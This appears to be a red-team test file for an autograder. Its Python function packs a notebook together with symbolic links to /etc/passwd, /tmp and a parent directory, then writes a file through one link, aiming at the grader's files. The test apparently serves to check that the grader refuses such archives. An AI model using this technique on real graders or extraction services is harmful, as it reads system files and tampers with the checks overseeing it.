# goal: the grader's files
# technique: an archive with symbolic links to files and folders of the grader's, and files to be written through them
# lab: m01_mini
# base: wrong
# expect: unreadable
# otter: no, it is no notebook
import stat
import zipfile


def hand_in(folder, notebook):
    path = folder / "archive_of_links.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("m01_mini.ipynb", notebook)
        for name, target in (("passwd", "/etc/passwd"), ("data", "/tmp"), ("up", "../..")):
            link = zipfile.ZipInfo(name)
            link.create_system = 3
            link.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(link, target)
        archive.writestr("data/redteam-archive_of_links", "x")
    return path
